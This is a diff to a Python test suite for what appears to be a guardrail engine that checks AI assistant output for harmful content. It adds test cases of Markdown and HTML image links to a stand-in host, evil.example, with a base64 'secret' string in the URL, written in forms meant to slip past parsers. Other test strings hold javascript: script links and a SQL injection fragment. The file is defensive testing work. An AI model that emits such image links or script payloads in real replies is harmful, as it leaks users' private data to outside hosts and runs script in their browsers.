@@ -105,6 +105,7 @@ def test_profanities_are_whole_words_and_the_list_can_be_changed() -> None:
     assert [segment.text[f.start : f.end] for f in findings] == ["sh1t", "f.u.c.k", "f u c k"]
 
 
+DATA = "c2VjcmV0IGRhdGEgdGhhdCBub2JvZHkgc2hvdWxkIHNlZSBhdCBhbGw"
 HARMFUL = [
     ("SCRIPT_LINK", "[click](javascript:alert(1", "javascript:alert(1"),
     ("SCRIPT_LINK", '<a href = "JaVa\nScript:x()">', "JaVa\nScript:x()"),
@@ -121,6 +122,24 @@ HARMFUL = [
     ("IMAGE_LINK", '<img alt="" src="https://evil.example/p.png?d=1">', "https://evil.example/p.png?d=1"),
     ("IMAGE_LINK", "![x][1]\n\n[1]: https://evil.example/?q=1", "https://evil.example/?q=1"),
     ("IMAGE_LINK", "url('https://evil.example/?x')", "https://evil.example/?x"),
+    # What browsers and Markdown take for a part of the address, too.
+    *(
+        ("IMAGE_LINK", f"![x](https://evil.example/{before}{DATA})", f"https://evil.example/{before}{DATA}")
+        for before in ("|", "a<", "(b)", "((b)c)", "'", "{", "d/" * 60)
+    ),
+    ("IMAGE_LINK", f"![x](<https://evil.example/a {DATA}>)", f"https://evil.example/a {DATA}"),
+    ("IMAGE_LINK", f"<img src='https://evil.example/a {DATA}'>", f"https://evil.example/a {DATA}"),
+    (
+        "IMAGE_LINK",
+        "<img srcset='/a.png 1x, https://evil.example/?q 2x'>",
+        "/a.png 1x, https://evil.example/?q 2x",
+    ),
+    ("IMAGE_LINK", "![x](http:evil.example/?q=1)", "http:evil.example/?q=1"),
+    # And what they take for an image's description.
+    *(
+        ("IMAGE_LINK", f"![{alt}](https://evil.example/?q=1)", "https://evil.example/?q=1")
+        for alt in ("a [b] c", "a [b [c]](d) e", "a\nb", "a\\]b", "a" * 1_000)
+    ),
 ]
 HARMLESS = [
     "JavaScript: the good parts. Use data: URIs with care, and javascript:void(0) never.",
@@ -128,6 +147,9 @@ HARMLESS = [
     "![dot](data:image/png;base64,iVBORw0KGgo=) <img src='/static/a.png?v=3'>",
     "<b>once=1</b> <a href='/on'>on=1</a> a <div b, img.onload = f; <Button onclick={f}>",
     "if a[1]: data = b; src = data[0] < 3 and c > d; href = 'https://example.com/?a=1'",
+    "[![build](https://ci.example.com/a_(b)/main.svg)](https://ci.example.com/?branch=main#now)",
+    'He set src="https://cdn.example.com/x.js and forgot to close it, so what follows is no address at all.',
+    '<img srcset="https://img.example.org/a?w=1 1x, https://img.example.org/a?w=2 2x">',
     "![shot](https://img.example.org/x.svg?style=flat) <img src=https://cdn.img.example.net/a?v=1>",
 ]
 
@@ -313,11 +335,12 @@ def stream_engine(kind: str) -> GuardEngine:
         "topics": {"topics": {"t": ["java", "acme cloud", "code word"]}, "action": "block"},
         "profanity": {"more": ["java"]},
         "web": {"checks": ["script", "any_image", "link"], "allowed_hosts": ["ok.example"]},
+        "images": {"checks": ["image"], "allowed_hosts": ["ok.example"]},
         "system_prompt_leak": {"words": 4, "action": "redact"},
         "json_schema": {"action": "block"},
         "sql": {"where": "text", "action": "flag"},
     }
-    return engine(kind, **more[kind])
+    return engine("web" if kind == "images" else kind, **more[kind])
 
 
 PARTS = st.sampled_from(
@@ -345,6 +368,7 @@ PARTS = st.sampled_from(
             "manager, Ms",
             " and be kind",
         ),
+        *("![[a]", "\\", "srcset=", "(", "[b", "http:x", "/" * 200, "](<"),
         *("{}", '{"a": 1}', "SELECT 1", "; DROP TABLE t", "é", "\u200b", "\uff34-12"),
     ]
 )
@@ -352,7 +376,10 @@ PARTS = st.sampled_from(
 
 @pytest.mark.parametrize(
     "kind",
-    ["regex", "competitors", "topics", "profanity", "web", "system_prompt_leak", "json_schema", "sql"],
+    [
+        *("regex", "competitors", "topics", "profanity", "web", "images", "system_prompt_leak"),
+        *("json_schema", "sql"),
+    ],
 )
 @settings(max_examples=80, deadline=None)
 @given(text=st.lists(PARTS, max_size=14).map("".join), how=cuts)
@@ -360,13 +387,15 @@ def test_any_cut_gives_the_verdict_of_the_complete_text(kind: str, text: str, ho
     asyncio.run(same(stream_engine(kind), text, pieces(text, how), context=CONTEXT))
 
 
-@pytest.mark.parametrize("unit", ["<img ", "](", "![a", "src=", "java\t", "on=", "a ", "f-u-c-k ", "//a?"])
+@pytest.mark.parametrize(
+    "unit", ["<img ", "](", "![a", "src=", "java\t", "on=", "a ", "f-u-c-k ", "//a?", "![[a]"]
+)
 @pytest.mark.timeout(120)
 def test_no_text_takes_quadratic_time(unit: str) -> None:
     """A hostile text that makes a guard quadratic takes minutes at this length, else a moment."""
     text = unit * (100_000 // len(unit))
     context = GuardContext(system_text=unit * 2_000)
-    for kind in ("competitors", "topics", "profanity", "web", "system_prompt_leak"):
+    for kind in ("competitors", "topics", "profanity", "web", "images", "system_prompt_leak"):
         asyncio.run(
             stream_engine(kind).check(
                 Segment(text=text, direction=Direction.OUTPUT, role="assistant"), context
